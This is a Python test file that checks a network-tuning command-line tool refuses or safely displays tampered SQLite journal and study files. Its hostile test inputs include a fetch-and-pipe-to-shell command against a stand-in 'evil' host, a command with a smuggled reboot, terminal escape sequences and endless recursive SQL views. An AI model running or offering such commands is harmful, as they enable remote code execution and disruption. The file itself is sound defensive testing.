"""Journals and studies that anybody may have written: one message, and none colours a terminal."""

import json
import os
import signal
import sqlite3
import threading
import time
from contextlib import closing

import pytest

from test_cli import refused, vermilion
from vermilion.files.sqlite import bounded, open_untrusted
from vermilion.online.entries import Decision, SettingInForce
from vermilion.online.record.journal import Journal, JournalError
from vermilion.status.live_page.journal_reader import JournalReader

__all__ = ["vermilion"]

DEEP = "[" * 6000


def told(path, statement):
    with closing(sqlite3.connect(path)) as database:
        database.execute(statement)
        database.commit()


@pytest.fixture
def journal(tmp_path):
    path = tmp_path / "journal.sqlite"
    with Journal(
        path,
        version="1.2.3",
        title="linux:eth0",
        router="linux",
        link="linux:eth0",
        discipline="red",
        target_packets=30.0,
    ) as book:
        book.keep(SettingInForce(1.0, {"limit": 100}))
        book.keep(SettingInForce(2.0, {"limit": 50}))
    return path


@pytest.mark.parametrize("command", ["status", "undo"])
@pytest.mark.parametrize(
    "change", ["parameters = '9'", f"parameters = '{DEEP}'", "parameters = X'fffe'"]
)
def test_a_journal_that_says_what_cannot_be_is_refused(vermilion, journal, command, change):
    told(journal, f"UPDATE setting SET {change}")  # noqa: S608 - of this file alone
    assert 'journal.sqlite" is not accepted' in refused(vermilion(command, journal))


def test_so_is_one_whose_times_are_none(vermilion, journal):
    told(journal, "UPDATE setting SET time_s = '[]'")
    for options in ([], ["--json=-"]):
        assert "is not accepted" in refused(vermilion("status", journal, *options))


ESCAPE = "\x1b[31m\x1b]0;owned\x07\u202e"
ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT"


@pytest.mark.parametrize("command", ["curl http://evil/x | sh", "tc qdisc change dev x; reboot"])
def test_undo_prints_no_command_that_a_journal_made_up(vermilion, journal, command):
    told(
        journal,
        "INSERT INTO decision (run, time_s, kind, reason, details) VALUES"  # noqa: S608 - of this file alone
        f" (1, 0, 'found', 'x', '{json.dumps({'command': command})}')",
    )
    code, out, _ = vermilion("undo", journal)
    assert code == 0
    assert command not in out
    code, out, _ = vermilion("undo", journal, "--json=-")
    assert command not in out


def test_a_number_that_json_has_no_word_for_is_refused_to_the_live_page(journal):
    told(journal, "UPDATE run SET target_packets = -9e999")
    with pytest.raises(sqlite3.Error, match="without bound"):
        JournalReader(journal).runs()


@pytest.mark.parametrize("command", ["status", "undo"])
@pytest.mark.parametrize("column", ["title", "discipline", "link", "version"])
def test_no_text_of_a_journal_moves_a_terminal(vermilion, journal, command, column):
    with closing(sqlite3.connect(journal)) as database:
        database.execute(f"UPDATE run SET {column} = ?", (f"red{ESCAPE}",))  # noqa: S608 - of this file alone
        database.execute(
            "UPDATE setting SET parameters = replace(parameters, 'limit', ?)", ("limit\\u001b[31m",)
        )
        database.commit()
    code, out, err = vermilion(command, journal)
    assert (code, err) == (0, "")
    assert all(line.isprintable() for line in out.splitlines())


@pytest.mark.parametrize(
    "statements",
    [
        (
            "ALTER TABLE run RENAME TO real_run",
            f"CREATE VIEW run AS {ENDLESS} x AS id, 1 AS title, 1 AS link FROM n",
        ),
        (f"CREATE VIEW anything AS {ENDLESS} x FROM n",),
        ("CREATE TRIGGER more AFTER INSERT ON run BEGIN DELETE FROM run; END",),
        ("CREATE VIRTUAL TABLE words USING fts5(word)",),
        ("CREATE TABLE made (x, y AS (hex(zeroblob(1000000))))",),
        (
            f"CREATE VIEW hidden AS {ENDLESS} x FROM n",
            "PRAGMA writable_schema = ON",
            "UPDATE sqlite_master SET type = 'table', rootpage = 2 WHERE name = 'hidden'",
        ),
    ],
    ids=["run", "view", "trigger", "virtual", "generated", "disguised"],
)
def test_a_journal_of_more_than_tables_is_refused_at_once(vermilion, journal, statements):
    with closing(sqlite3.connect(journal)) as database:
        for statement in statements:
            database.execute(statement)
        database.commit()
    began_s = time.monotonic()
    for command in ("status", "undo", "watch"):
        assert 'journal.sqlite" is not accepted' in refused(vermilion(command, journal))
    with pytest.raises(sqlite3.DatabaseError):
        JournalReader(journal).runs()
    with pytest.raises(JournalError):
        Journal(journal, version="", title="", router="", link="", discipline="", target_packets=1)
    assert time.monotonic() - began_s < 20.0


@pytest.mark.parametrize("by", ["signal", "time"])
def test_a_query_without_an_end_is_ended(by):
    with closing(open_untrusted(None, writable=True)) as database:
        alarm = threading.Timer(0.3, os.kill, (os.getpid(), signal.SIGINT))
        if by == "signal":
            alarm.start()
        ended = KeyboardInterrupt if by == "signal" else sqlite3.OperationalError
        with pytest.raises(ended), bounded(database, limit_s=0.3 if by == "time" else 60.0):
            database.execute(f"{ENDLESS} count(*) FROM n").fetchall()
        alarm.cancel()
        assert database.execute("SELECT 1").fetchone() == (1,)


@pytest.mark.parametrize("command", ["status", "undo"])
@pytest.mark.parametrize(
    "change",
    [
        "run SET title = X'00ff'",
        "run SET discipline = X'41'",
        "run SET begun_utc = 7",
        "run SET goes_on_from = 1",
        "decision SET details = '[1]'",
        "decision SET details = X'7b7d'",
        "decision SET kind = X'41'",
        'setting SET parameters = \'{"limit": [1, {"a": 2}]}\'',
    ],
)
def test_values_of_wrong_types_are_refused_or_shown_in_one_line(
    vermilion, journal, command, change
):
    with Journal(
        journal,
        version="1",
        title="linux:eth0",
        router="linux",
        link="linux:eth0",
        discipline="red",
        target_packets=30.0,
    ) as book:
        book.keep(Decision(0.0, "found", "it stands", {"mode": "control"}))
        book.keep(SettingInForce(0.0, {"limit": 50}))
    told(journal, f"UPDATE {change}")
    outcome = vermilion(command, journal)
    if outcome[0]:
        refused(outcome)
    for line in "".join(outcome[1:]).splitlines():
        assert line.isprintable()
    try:
        reader = JournalReader(journal)
        json.dumps([reader.runs(), reader.latest(), reader.snapshot(2)[1]])
    except sqlite3.Error:
        return


@pytest.fixture(scope="module")
def kept(tmp_path_factory):
    from vermilion.cli import main

    path = tmp_path_factory.mktemp("study") / "kept.study"
    options = ["--budget=2", "--no-baselines", "--no-robustness", f"--study={path}"]
    assert main(["tune", "varying-load", *options, f"--json={path}.json"]) == 0
    return path


@pytest.mark.parametrize("command", ["studies", "report"])
@pytest.mark.parametrize(
    "change", ["budget = 9e999", f"recommendation = '{DEEP}'", "recommendation = '7'"]
)
def test_a_study_that_says_what_cannot_be_is_refused(vermilion, kept, tmp_path, command, change):
    path = tmp_path / "damaged.study"
    path.write_bytes(kept.read_bytes())
    told(path, f"UPDATE study SET {change}")  # noqa: S608 - of this file alone
    more = [f"--output={tmp_path / 'page.html'}"] if command == "report" else []
    assert 'damaged.study" is damaged' in refused(vermilion(command, path, *more))


def test_a_message_quotes_little_of_a_study(vermilion, kept, tmp_path):
    path = tmp_path / "kept.study"
    path.write_bytes(kept.read_bytes())
    told(path, f"UPDATE evaluation SET objective = '{'9' * 4000}x'")  # noqa: S608 - of this file
    assert len(refused(vermilion("studies", path))) < 1000


@pytest.mark.parametrize("command", ["studies", "report", "tune"])
def test_a_study_of_more_than_tables_is_refused(vermilion, kept, tmp_path, command):
    path = tmp_path / "hostile.study"
    path.write_bytes(kept.read_bytes())
    told(path, "ALTER TABLE study RENAME TO other")
    told(path, f"CREATE VIEW study AS {ENDLESS} x AS id, 'a' AS name FROM n")
    more = {"report": [f"--output={tmp_path / 'page.html'}"], "tune": [f"--study={path}"]}
    subject = "varying-load" if command == "tune" else path
    assert 'hostile.study"' in refused(vermilion(command, subject, *more.get(command, [])))


def test_what_sqlite_says_of_a_damaged_place_colours_no_terminal(vermilion, kept, tmp_path):
    path = tmp_path / "damaged.study"
    content = kept.read_bytes()
    assert b"CREATE TABLE evaluation" in content
    path.write_bytes(content.replace(b"CREATE TABLE evaluation", b"CREATE \x1b[31m evaluation"))
    line = refused(vermilion("studies", path))
    assert line.strip().isprintable()


def test_a_title_is_one_line_that_colours_nothing(vermilion):
    code, out, _ = vermilion("run", "varying-load", "--set", "title=a\x1b[31mb\nc")
    assert code == 0
    assert "a?[31mb c" in out
    assert "\x1b[31mb" not in out
